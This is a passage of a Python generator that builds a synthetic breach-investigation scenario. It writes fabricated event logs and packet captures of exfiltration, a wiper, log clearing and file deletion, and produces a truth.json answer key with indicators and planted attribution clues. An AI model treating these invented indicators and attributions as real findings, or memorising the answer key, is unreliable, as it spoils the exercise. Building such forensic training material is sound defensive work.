                times = sorted(lo + r.random() * (hi - lo) for _ in range(k))
                for t in times:
                    n = min(left, 25000000)
                    self.net(t, "tcp %s %s 443 %d %d" % (src["ip"], ip, n, 20000 + r.randrange(20000)))
                    left -= n
                    rec["flows"] += 1
                t_first = min(t_first or times[0], times[0])
                t_last = max(t_last or times[-1], times[-1])
                rec["per_day"].append({"day": iso(d0)[:10], "bytes": per})
                rec["bytes"] += per
            self.exfil.append(rec)
        self.stage("exfiltration", "exfiltration", ["T1048", "T1041"], t_first, t_last + 20,
                   srcs, ["capture"], "uploads of %d MB to %d foreign addresses, and a DNS tunnel under %s"
                   % (self.a.exfil_mb, len(INFRA["exfil"]), INFRA["tunnel"]))

        # Impact, on the last day: the wiper, its driver service, log clearing, mass deletion.
        aff = [pz] + tg
        t_i = t_we + 60
        self.wiped[pz["name"]] = t_i - 30
        for i, h in enumerate(aff):
            t = t_i + i * 3
            self.add(h, sysmon_proc(t, h, WIPER_PATH, '"%s" -w' % WIPER_PATH, "NT AUTHORITY\\SYSTEM",
                                    "C:\\Windows\\System32\\services.exe", b["wiper"]["sha256"], r))
            self.add(h, svc_install(t + 2, h, "usbdrv3", "C:\\Windows\\System32\\drivers\\usbdrv3.sys",
                                    "kernel mode driver", "demand start"))
            sub = {"SubjectUserSid": sid_of(ADMIN), "SubjectUserName": ADMIN, "SubjectDomainName": DOMAIN,
                   "SubjectLogonId": {"type": "hex64", "value": "0x5f3a1"}}
            self.add(h, ev(SEC, 1102, t + 300, h, sub, user_sid=None, provider="Microsoft-Windows-Eventlog",
                           user_data="LogFileCleared", task=104, level=4, keywords="0x4020000000000000"))
            self.add(h, ev(SYS, 104, t + 301, h, dict(sub, Channel="System", BackupPath=""), user_sid=None,
                           provider="Microsoft-Windows-Eventlog", user_data="LogFileCleared", task=104, level=4))
            owner = h["user"] or "svc_backup"
            for k in range(150):
                tk = t + 330 + k * 2.3
                self.add(h, ev(SYSMON, 23, tk, h, {
                    "RuleName": "-", "UtcTime": iso(tk)[:23].replace("T", " "), "ProcessGuid": guid(r),
                    "ProcessId": 6120, "User": "NT AUTHORITY\\SYSTEM", "Image": WIPER_PATH,
                    "TargetFilename": "C:\\Users\\%s\\Documents\\Projects\\reel_%03d.%s" % (owner, k,
                                                                                        ["mov", "docx", "xlsx", "psd"][k % 4]),
                    "Hashes": "SHA256=" + hashlib.sha256(b"%d" % k).hexdigest().upper(),
                    "IsExecutable": False, "Archived": "false"}, level=4, version=5, task=23))
        t_end = t_i + 3 * len(aff) + 330 + 150 * 2.3
        self.stage("impact", "impact", ["T1485", "T1561.002", "T1070.001", "T1543.003"], t_i, t_end, aff,
                   ["evtx:Sysmon 1", "evtx:System 7045", "evtx:Security 1102", "evtx:System 104",
                    "evtx:Sysmon 23"],
                   "the wiper runs on %d hosts: driver service usbdrv3, Security and System logs cleared, "
                   "150 files deleted per host" % len(aff))
        for v in self.events.values():
            v.sort(key=lambda x: x[0])
        for v in self.sessions.values():
            v.sort(key=lambda x: x[0])


# ---- network ------------------------------------------------------------------------

def benign_addr(r):
    pre, cc = r.choice(BENIGN_NET)
    return pre + str(10 + r.randrange(200)), cc


def net_noise(a, P, day):
    """Ordinary traffic of one day: DNS, web, mail, file shares, then bulk
    transfers until the day's background volume is reached."""
    r = rng(a.seed, "net", day)
    d0 = P["day0"] + day * 86400
    by, out = P["by"], []
    ws = [h for h in P["hosts"] if h["role"] == "workstation"]
    dc, mail = by["DC01"], by["MAIL01"]
    scale = max(1, a.events // 60)
    vol = [0]

    def when():
        return d0 + 15.5 * 3600 + r.random() * 10 * 3600 if r.random() < 0.9 else d0 + r.random() * 86400

    def add(t, line, n=0):
        out.append((t, "%.6f %s" % (t, line)))
        vol[0] += n

    for h in ws:
        for _ in range(8 * scale):
            add(when(), "dns %s %s %s 1" % (h["ip"], dc["ip"], r.choice(SITES)))
        for _ in range(6 * scale):
            ip, _cc = benign_addr(r)
            up, down = 900 + r.randrange(2000), int(r.lognormvariate(10.5, 1.2))
            add(when(), "tls %s %s 443 %s %d %d" % (h["ip"], ip, r.choice(SITES), up, down), up + down)
        for _ in range(3 * scale):
            n = int(r.lognormvariate(11, 1.0))
            add(when(), "tcp %s %s 445 %d %d full" % (h["ip"], by[h["fs"]]["ip"], 3000 + r.randrange(4000), n), n)
        add(when(), "tcp %s %s 445 2400 18000 full" % (h["ip"], dc["ip"]), 20400)
        for _ in range(2 * scale):
            ip, _cc = benign_addr(r)
            n = int(r.lognormvariate(10, 1.3))
            add(when(), "tcp %s %s 25 %d 600 full" % (ip, mail["ip"], n), n)
        if r.random() < 0.6:
            ip, _cc = benign_addr(r)
            n = int(r.lognormvariate(9.5, 1.2))
            add(when(), "tcp %s %s 25 %d 700 full" % (mail["ip"], ip, n), n)
    target = a.background_mb * 1000000 // P["days"]
    while vol[0] < target:
        h = r.choice(ws)
        n = min(int(r.lognormvariate(15.5, 1.0)), 200000000)
        if r.random() < 0.6:
            add(when(), "tcp %s %s 445 %d %d full" % (h["ip"], by[h["fs"]]["ip"], 4000, n), n)
        else:
            ip, _cc = benign_addr(r)
            add(when(), "tcp %s %s 443 %d %d full" % (h["ip"], ip, 2000, n), n)
    out.sort(key=lambda x: x[0])
    return out, vol[0]


def write_captures(a, P, att, outdir, tools):
    info = []
    for day in range(P["days"]):
        d0 = P["day0"] + day * 86400
        path = os.path.join(outdir, "core-span-%s.pcap" % iso(d0)[:10])
        noise_s, vol = net_noise(a, P, day)
        mine = att.sessions.get(day, []) if att else []
        p = subprocess.Popen([tools["mkbreach"], path, "script", "-"], stdin=subprocess.PIPE)
        i = j = 0
        buf = []
        while i < len(noise_s) or j < len(mine):
            if j >= len(mine) or (i < len(noise_s) and noise_s[i][0] <= mine[j][0]):
                buf.append(noise_s[i][1]); i += 1
            else:
                buf.append(mine[j][1]); j += 1
            if len(buf) >= 4096:
                p.stdin.write(("\n".join(buf) + "\n").encode()); buf = []
        p.stdin.write(("\n".join(buf) + "\n").encode())
        p.stdin.close()
        if p.wait():
            die("mkbreach failed on %s" % path)
        info.append({"file": os.path.relpath(path, os.path.dirname(os.path.dirname(outdir))),
                     "background_bytes": vol, "sessions": len(noise_s) + len(mine)})
    if att:
        d = att.download
        path = os.path.join(outdir, "proxy-http-%s.pcap" % iso(d["time"])[:10])
        src = os.path.join(os.path.dirname(outdir), "hosts", d["client_name"], "files", "Users", d["user"],
                           "Downloads", att.bins["dropper"]["file"])
        sh([tools["mkpcap"], path, "http-download", src, str(int(d["time"])),
            d["client"], d["server"], d["host"]], HERE)
        info.append({"file": os.path.relpath(path, os.path.dirname(os.path.dirname(outdir))),
                     "http_download": att.bins["dropper"]["file"]})
    return info


# ---- writing --------------------------------------------------------------------------

def write_logs(a, P, att, hostdir, tools, benign_bins):
    procs, files = [], 0
    for h in P["hosts"]:
        ldir = os.path.join(hostdir, h["name"], "logs")
        os.makedirs(ldir, exist_ok=True)
        for ch, fname in CHANNELS:
            mine = att.events.get((h["name"], ch), []) if att else []
            tmp = os.path.join(ldir, fname + ".jsonl")
            n, j = 0, 0
            with open(tmp, "w") as f:
                for day in range(P["days"]):
                    end = P["day0"] + (day + 1) * 86400
                    for t, e in noise(a, P, h, day, ch, benign_bins):
                        while j < len(mine) and mine[j][0] <= t:
                            f.write(json.dumps(mine[j][1], ensure_ascii=False) + "\n"); j += 1; n += 1
                        f.write(json.dumps(e, ensure_ascii=False) + "\n"); n += 1
                    while j < len(mine) and mine[j][0] < end:
                        f.write(json.dumps(mine[j][1], ensure_ascii=False) + "\n"); j += 1; n += 1
            if not n:
                os.remove(tmp)
                continue
            while len(procs) >= 2:
                reap(procs)
            procs.append((subprocess.Popen([tools["mkevtx"], "-o", os.path.join(ldir, fname), tmp]), tmp))
            files += 1
    while procs:
        reap(procs)
    return files


def reap(procs):
    p, tmp = procs.pop(0)
    if p.wait():
        die("mkevtx failed on %s" % tmp)
    os.remove(tmp)


def place(src, dst, mtime):
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    shutil.copyfile(src, dst)
    os.utime(dst, (int(mtime), int(mtime)))


def main():
    ap = argparse.ArgumentParser(description="Writes the Crestline Pictures breach scenario.")
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=2014)
    ap.add_argument("--size", choices=sorted(SIZES), default="small")
    ap.add_argument("--hosts", type=int)
    ap.add_argument("--days", type=int)
    ap.add_argument("--exfil-mb", type=int)
    ap.add_argument("--background-mb", type=int)
    ap.add_argument("--benign-only", action="store_true")
    ap.add_argument("--build", default=os.path.join(os.path.dirname(HERE), "build"))
    a = ap.parse_args()
    h, d, x, bg, evn = SIZES[a.size]
    a.hosts = a.hosts or h
    a.days = a.days or d
    a.exfil_mb = a.exfil_mb if a.exfil_mb is not None else x
    a.background_mb = a.background_mb if a.background_mb is not None else bg
    a.events = evn
    if not 14 <= a.hosts <= 2000:
        die("--hosts must be 14..2000 (lateral movement needs 10 targets)")
    if not 2 <= a.days <= 365:
        die("--days must be 2..365")
    if a.exfil_mb < 0 or a.background_mb < 0:
        die("volumes must be >= 0")
    a.build = os.path.abspath(a.build)
    tools = {t: os.path.join(a.build, "tools", t) for t in ("mkbreach", "mkpcap", "mkevtx")}
    for t, p in tools.items():
        if not os.access(p, os.X_OK):
            die("%s not found: build tells first (cmake --build %s)" % (p, a.build))
    if os.path.exists(a.out) and os.listdir(a.out):
        if not (os.path.exists(os.path.join(a.out, "truth.json")) or os.path.isdir(os.path.join(a.out, "evidence"))):
            die("%s exists and is not a scenario folder" % a.out)
        shutil.rmtree(a.out)
    evid = os.path.join(a.out, "evidence")
    hostdir, netdir = os.path.join(evid, "hosts"), os.path.join(evid, "network")
    os.makedirs(netdir)
    attack = not a.benign_only
    P = plan(a)
    geo = Geo(GEOIP)
    with tempfile.TemporaryDirectory(prefix="tells-scn-") as tmp:
        bins = build_binaries(a, P, tmp, attack)
        benign_bins = [bins[n] for n, _, _ in BENIGN]
        att = None
        if attack:
            att = Attack(a, P, bins)
            att.run()
        # Binaries on the hosts.
        placed = {}
        def put(name, host, rel, mtime):
            place(bins[name]["path"], os.path.join(hostdir, host["name"], "files", rel), mtime)
            placed.setdefault(name, []).append("evidence/hosts/%s/files/%s" % (host["name"], rel))
        for i, hh in enumerate(P["hosts"]):
            if hh["role"] == "workstation" and i % 3 == 0:
                put("renderq", hh, "Program Files/Crestline/renderq.exe", bins["renderq"]["build_time"] + 86400 * 9)
            if hh["role"] == "file-server":
                put("timesheet", hh, "Program Files/Crestline/timesheet.exe",
                    bins["timesheet"]["build_time"] + 86400 * 9)
        if attack:
            put("dropper", P["pz"], "Users/%s/Downloads/%s" % (P["pz"]["user"], bins["dropper"]["file"]),
                att.download["time"] + 1)
            for hh in [P["pz"]] + P["targets"]:
                put("implant", hh, "ProgramData/igfxtrayex.exe", att.infected[hh["name"]])
                put("wiper", hh, "Windows/Temp/diskpartmg16.exe", att.wiped[hh["name"]])
        nlogs = write_logs(a, P, att, hostdir, tools, benign_bins)
        caps = write_captures(a, P, att, netdir, tools)
        truth = make_truth(a, P, att, bins, placed, caps, nlogs, geo)
    with open(os.path.join(a.out, "truth.json"), "w") as f:
        json.dump(truth, f, indent=1, ensure_ascii=False)
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(dp, fn)) for dp, _, fs in os.walk(evid) for fn in fs)
    print("scenario %s (seed %d, %d hosts, %d days%s): %s, %.1f MB of evidence" % (
        a.size, a.seed, a.hosts, a.days, ", benign only" if a.benign_only else "", a.out, total / 1e6))


def make_truth(a, P, att, bins, placed, caps, nlogs, geo):
    aff = {h["name"] for h in ([P["pz"]] + P["targets"])} if att else set()
    t = {"scenario": {"name": "Crestline Pictures", "generator": "scenarios/gen.py", "seed": a.seed,
                      "size": a.size, "hosts": a.hosts, "days": a.days, "exfil_mb": a.exfil_mb,
                      "background_mb": a.background_mb, "benign_only": not att,
                      "first_day": iso(P["day0"])[:10], "last_day": iso(P["last"])[:10],
                      "domain": DOMAIN, "dns_zone": ZONE, "internal": "10.20.0.0/16",
                      "geoip": GEOIP if geo.lo else None},
         "hosts": [{"name": h["name"], "fqdn": h["fqdn"], "ip": h["ip"], "role": h["role"], "user": h["user"],
                    "affected": h["name"] in aff, "patient_zero": bool(att) and h is P["pz"]}
                   for h in P["hosts"]]}
    accts = [{"name": "%s\\%s" % (DOMAIN, h["user"]), "kind": "user", "host": h["name"],
              "compromised": bool(att) and h is P["pz"]} for h in P["hosts"] if h["user"]]
    accts.append({"name": "%s\\%s" % (DOMAIN, ADMIN), "kind": "domain-admin", "host": None,
                  "compromised": bool(att)})
    t["accounts"] = accts
    t["stages"] = att.stages if att else []
    if att:
        t["first_activity"] = min(s["first"] for s in att.stages)
        t["last_activity"] = max(s["last"] for s in att.stages)
        for e in att.exfil:
            e["country"] = geo.country(e["dest_ip"], dict(INFRA["exfil"])[e["dest_ip"]])
        for c in att.c2:
            c["country"] = geo.country(c["dest_ip"], INFRA["c2"][1])
        t["exfiltration"] = att.exfil
        t["c2"] = att.c2
        t["dns_tunnel"] = att.tunnel
        t["scan"] = att.scan
        t["lateral_movement"] = {"source": P["pz"]["name"], "source_ip": P["pz"]["ip"], "port": 445,
                                 "targets": [h["name"] for h in P["targets"]], "account": "%s\\%s" % (DOMAIN, ADMIN)}
        d = att.download
        t["initial_download"] = {"time": iso(d["time"]), "client": P["pz"]["name"], "server_ip": d["server"],
                                 "host": d["host"], "country": geo.country(d["server"], INFRA["drop"][1]),
                                 "file": bins["dropper"]["file"], "sha256": bins["dropper"]["sha256"]}
        ind = [{"type": "ip", "value": INFRA["drop"][0], "role": "dropper download"},
               {"type": "domain", "value": INFRA["drop"][2], "role": "dropper download"},
               {"type": "ip", "value": INFRA["c2"][0], "role": "c2"},
               {"type": "domain", "value": INFRA["c2"][2], "role": "c2"},
               {"type": "domain", "value": INFRA["tunnel"], "role": "dns tunnel"}]
        ind += [{"type": "ip", "value": ip, "role": "exfiltration"} for ip, _ in INFRA["exfil"]]
        ind += [{"type": "sha256", "value": bins[n]["sha256"], "role": n} for n in ("dropper", "implant", "wiper")]
        ind += [{"type": "service", "value": SERVICE, "role": "persistence"},
                {"type": "service", "value": "usbdrv3", "role": "wiper driver"},
                {"type": "task", "value": TASK, "role": "persistence"},
                {"type": "account", "value": "%s\\%s" % (DOMAIN, ADMIN), "role": "stolen credentials"},
                {"type": "pdb_user", "value": "jhpark", "role": "build machine"}]
        t["indicators"] = ind
    mal = []
    for name, fname, off, hh, mm, caps_, pdb in (MAL if att else []):
        b = bins[name]
        mal.append({"name": name, "file": fname, "sha256": b["sha256"], "paths": placed.get(name, []),
                    "tells": {"language": "ko-KR Korean", "lang_id": "0x0412", "translation": "0x0412/949",
                              "build_time": iso(b["build_time"]), "build_time_epoch": b["build_time"],
                              "build_time_local": time.strftime("%Y-%m-%d %H:%M %a", time.gmtime(b["build_time"] + 9 * 3600)),
                              "utc_offset_hours": 9, "pdb_path": pdb, "pdb_user": "jhpark"},
                    "capabilities": [{"id": c, "attack": k} for c, k in caps_]})
    t["binaries"] = {"malicious": mal,
                     "benign": [{"name": n, "file": f, "sha256": bins[n]["sha256"], "paths": placed.get(n, []),
                                 "build_time": iso(bins[n]["build_time"])} for n, f, _ in BENIGN]}
    if att:
        t["attribution"] = planted_truth(bins, [e["country"] for e in att.exfil] + [c["country"] for c in att.c2] + [t["initial_download"]["country"]])
    t["evidence"] = {"event_log_files": nlogs, "captures": caps}
    return t


if __name__ == "__main__":
    main()
